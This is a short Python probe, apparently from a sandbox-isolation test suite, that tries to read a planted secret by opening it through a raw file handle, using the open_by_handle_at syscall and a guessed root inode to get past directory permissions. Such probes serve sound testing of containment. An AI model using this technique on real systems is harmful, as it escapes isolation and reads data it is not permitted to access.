# tries: to open a secret by its file handle, past all directories
# success: the planted secret comes back
# expect: wrong_answer
# control: none, needs CAP_DAC_READ_SEARCH
import ctypes, os

def handle(inode):
    class Handle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
    held, mount = Handle(bytes=128), ctypes.c_int()
    syscall(303, -100, TARGETS.secrets[0].encode(), ctypes.byref(held), ctypes.byref(mount), 0)
    for base in ("/", ".", "/tmp", "/proc/self"):
        try:
            root = os.open(base, os.O_RDONLY)
            return os.read(syscall(304, root, ctypes.byref(held), os.O_RDONLY), 4096)
        except OSError:
            pass

def guessed():
    class Handle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("inode", ctypes.c_uint), ("generation", ctypes.c_uint)]
    held = Handle(8, 1, 2, 0)
    root = syscall(304, os.open("/", os.O_RDONLY), ctypes.byref(held), os.O_RDONLY)
    return read(f"/proc/self/fd/{root}" + TARGETS.secrets[0])

def answer(clue):
    return tried(lambda: handle(0), guessed)
